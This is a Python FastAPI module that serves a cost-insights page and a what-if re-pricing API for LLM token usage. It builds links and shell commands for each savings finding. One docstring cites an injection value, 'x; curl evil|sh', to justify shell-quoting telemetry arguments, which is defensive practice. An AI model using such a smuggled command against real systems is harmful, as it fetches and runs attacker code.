"""Insights: what to change and what it would save, each with the what-if behind its
number; and ``/api/whatif``, the same re-pricing engine for any run, service or the fleet.

A finding's ``savings_usd`` is its calls re-priced under the fix (analysis/insights.py).
The what-if shown with it is that very number: the finding's calls, their cost as sent
and under the scenario, and the savings, with the ``/api/whatif`` link and the
``tokentrail whatif`` command that re-price exactly those calls (the finding's run or
service, its model, and only the calls its rule counts: ``only_model`` and
``only_candidates``, analysis/whatif.py). The page runs no what-if query of its own.

The page's numbers are the insights': a run's calls count by UTC day, when the run's
first call of that day lies in the range; the what-if counts every call in
``[start, end)``. Over ranges of whole UTC days that no run crosses, both are the same
calls (tests/web/test_insights_page.py checks the link answers the finding's numbers).

Findings overlap: one run can be uncached_prefix, growing_uncached_input, context_growth
and context_dead_weight at once, and one service's calls both batch and routing
candidates, each fix re-pricing the same calls. Their savings do not add up, so the page
leads with the largest single finding (``largest_savings_usd``), never a sum.
"""

from __future__ import annotations

import shlex
from typing import Annotated, Any, Literal
from urllib.parse import urlencode

from fastapi import APIRouter, HTTPException, Query, Request
from fastapi.responses import HTMLResponse

from tokentrail.analysis import insights as ins
from tokentrail.analysis import whatif as wi
from tokentrail.store import Store
from tokentrail.store.ui_reads import as_utc
from tokentrail.web.api_models import Finding, InsightsPage, WhatIf
from tokentrail.web.dependencies import StoreDep, templates
from tokentrail.web.params import (
    RANGES,
    EndQuery,
    RangeQuery,
    StartQuery,
    TimeRange,
    time_range,
    to_date_text,
)

router = APIRouter()

DEFAULT_RANGE = "30d"
DEFAULT_LIMIT = 20
KINDS = ins.KINDS  # every kind the store may report

# kind -> the what-if scenario that re-prices it (README, "Insights": each rule's
# "Re-priced ..." sentence names the same alternative the scenario sums).
SCENARIO_OF_KIND = {
    ins.UNCACHED_PREFIX: "cache_prefix",
    ins.GROWING_UNCACHED_INPUT: "cache_messages",
    ins.CONTEXT_GROWTH: "compaction",
    ins.BATCH_CANDIDATE: "batch",
    ins.MODEL_ROUTING_CANDIDATE: "model",
    ins.TTL_TOO_SHORT: "ttl_1h",
    ins.UNREAD_CACHE_WRITES: "unread_writes",
    ins.CONTEXT_DEAD_WEIGHT: "dead_weight",
}
# Only scenarios this version of the analysis has.
SCENARIO_OF_KIND = {k: v for k, v in SCENARIO_OF_KIND.items() if v in wi.SCENARIOS}

# How the kinds without a scenario get their number.
BASIS_OF_KIND = {
    ins.RECURRING_INVALIDATION: "measured: the extra_cost_usd of these cache events "
                                "(their missed tokens re-priced as cache reads)",
}

Scenario = Literal.__getitem__(tuple(wi.SCENARIOS))  # every scenario of analysis/whatif.py
KindQuery = Annotated[list[str] | None, Query(
    description=f"Only these kinds (repeatable): {', '.join(KINDS)}")]


def _kinds(kind: list[str] | None) -> list[str]:
    kinds = [k for k in (kind or []) if k]
    unknown = [k for k in kinds if k not in KINDS]
    if unknown:
        raise HTTPException(status_code=422, detail=[{
            "loc": ["query", "kind"], "type": "value_error",
            "msg": f"unknown kind {unknown[0]!r}; one of {', '.join(KINDS)}"}])
    return kinds


def _iso(value: Any) -> str:
    return value.isoformat().replace("+00:00", "Z")


def _scope(finding: Finding) -> dict[str, str]:
    """The what-if scope of a finding: its run (run-scoped kinds) or its service, and
    its model."""
    run = finding.run_ids[0] if finding.scope == "run" and finding.run_ids else ""
    service = finding.service_name if not run and finding.scope == "service" else ""
    return {"run": run, "service": service, "only_model": finding.model}


def whatif_url(scenario: str, span: TimeRange, *, run: str = "", service: str = "",
               only_model: str = "", only_candidates: bool = True) -> str:
    query = {"scenario": scenario, "start": _iso(span.start), "end": _iso(span.end)}
    if run:
        query["run"] = run
    elif service:
        query["service"] = service
    if only_model:
        query["only_model"] = only_model
    if only_candidates:
        query["only_candidates"] = "true"
    return "/api/whatif?" + urlencode(query)


def whatif_command(scenario: str, span: TimeRange, *, run: str = "", service: str = "",
                   only_model: str = "", only_candidates: bool = True) -> str:
    """The ``tokentrail whatif`` command line behind a finding, each argument quoted for
    a POSIX shell: run ids, service and model names are telemetry, and a copy-pasted
    ``--run 'x; curl evil|sh'`` must stay one argument."""
    args = ["tokentrail", "whatif", scenario]
    if run:
        args += ["--run", run]
    elif service:
        args += ["--service", service]
    if only_model:
        args += ["--only-model", only_model]
    if only_candidates:
        args.append("--only-candidates")
    args += ["--start", span.start.strftime("%Y-%m-%dT%H:%M:%S"),
             "--end", span.end.strftime("%Y-%m-%dT%H:%M:%S")]
    return shlex.join(args)


def _finding_whatif(finding: Finding, scenario: str, span: TimeRange) -> WhatIf:
    """The what-if behind a finding, from the finding's own numbers: the same engine
    re-priced the same calls (``/api/whatif`` with :func:`_scope` and only the
    candidates answers these totals)."""
    cost = finding.cost_usd or 0.0
    savings = finding.savings_usd or 0.0
    return WhatIf(scenario=scenario, description=wi.SCENARIOS[scenario][1],
                  start=span.start, end=span.end, **_scope(finding), only_candidates=True,
                  calls=finding.calls, runs=None, cost_usd=cost,
                  whatif_cost_usd=cost - savings, savings_usd=savings)


def _findings(store: Store, span: TimeRange, kinds: list[str], limit: int) -> InsightsPage:
    rows = store.insights(span.start, span.end, kinds=kinds, limit=limit)
    findings = []
    for row in rows:
        # Naive datetimes from the store are UTC: made aware, the JSON gives their offset
        # as the other twins do.
        finding = Finding.model_validate({
            **row, **{k: as_utc(row[k]) for k in ("first_seen", "last_seen") if row.get(k)}})
        scenario = SCENARIO_OF_KIND.get(finding.kind)
        if scenario:
            scope = _scope(finding)
            finding.whatif = _finding_whatif(finding, scenario, span)
            finding.whatif_url = whatif_url(scenario, span, **scope)
            finding.whatif_command = whatif_command(scenario, span, **scope)
            finding.basis = (f"these calls re-priced under the what-if scenario "
                             f"{scenario!r}: {wi.SCENARIOS[scenario][1]}")
        else:
            finding.basis = BASIS_OF_KIND.get(finding.kind, "")
        findings.append(finding)
    largest = max((f.savings_usd or 0 for f in findings), default=0.0)
    return InsightsPage(start=span.start, end=span.end, range=span.range, kinds=kinds,
                        largest_savings_usd=largest, findings=findings)


LimitQuery = Annotated[int, Query(ge=1, le=200, description="The top N findings")]


@router.get("/insights", response_class=HTMLResponse, name="insights")
def insights_page(request: Request, store: StoreDep, start: StartQuery = None,
                  end: EndQuery = None, range_: RangeQuery = None, kind: KindQuery = None,
                  limit: LimitQuery = DEFAULT_LIMIT):
    span = time_range(start, end, range_, default=DEFAULT_RANGE)
    kinds = _kinds(kind)
    page = _findings(store, span, kinds, limit)
    return templates.TemplateResponse(request, "insights.html", {
        "page": page, "span": span, "ranges": list(RANGES), "all_kinds": KINDS,
        "start_date": start or to_date_text(span.start),
        "end_date": end or to_date_text(span.end),
        "extra": {"kind": kinds[0] if len(kinds) == 1 else ""}})


@router.get("/api/insights", name="insights_json", response_model=InsightsPage)
def insights_json(store: StoreDep, start: StartQuery = None, end: EndQuery = None,
                  range_: RangeQuery = None, kind: KindQuery = None,
                  limit: LimitQuery = DEFAULT_LIMIT) -> InsightsPage:
    """The findings of a range (default the last 30 days), the largest savings first,
    each with the what-if that re-prices exactly its calls (and the link that does)."""
    span = time_range(start, end, range_, default=DEFAULT_RANGE)
    return _findings(store, span, _kinds(kind), limit)


@router.get("/api/whatif", name="whatif_json", response_model=WhatIf)
def whatif_json(
    store: StoreDep,
    scenario: Annotated[Scenario, Query(description="; ".join(
        f"{k}: {v[1]}" for k, v in wi.SCENARIOS.items()))],
    start: StartQuery = None, end: EndQuery = None, range_: RangeQuery = None,
    run: Annotated[str, Query(description="Only this run")] = "",
    service: Annotated[str, Query(description="Only this service")] = "",
    only_model: Annotated[str, Query(
        description="Only the calls on this model (a finding's model)")] = "",
    only_candidates: Annotated[bool, Query(
        description="Only the calls the rule of the scenario's kind counts (a finding's "
                    "calls: e.g. for batch the batchable calls of single-call runs)")] = False,
    model: Annotated[str | None, Query(
        description="For `model`: the model to re-price on (default claude-haiku-4-5)")] = None,
    compact_above: Annotated[int | None, Query(
        ge=1, description="For `compaction`: compact once a call's input exceeds N")] = None,
    compact_to: Annotated[int | None, Query(
        ge=1, description="For `compaction`: the summary's length in tokens")] = None,
) -> WhatIf:
    """Calls of the range (of one run or service if given) priced as they ran and under
    ``scenario``: the engine behind every insight's savings (default: the last 30 days)."""
    span = time_range(start, end, range_, default=DEFAULT_RANGE)
    row = store.whatif(scenario, span.start, span.end, run=run, service=service,
                       only_model=only_model, only_candidates=only_candidates,
                       routing_model=model, compact_above=compact_above,
                       compact_to=compact_to)
    return WhatIf.model_validate({
        **row, "description": wi.SCENARIOS[scenario][1], "start": span.start,
        "end": span.end, "run": run, "service": service, "only_model": only_model,
        "only_candidates": only_candidates})
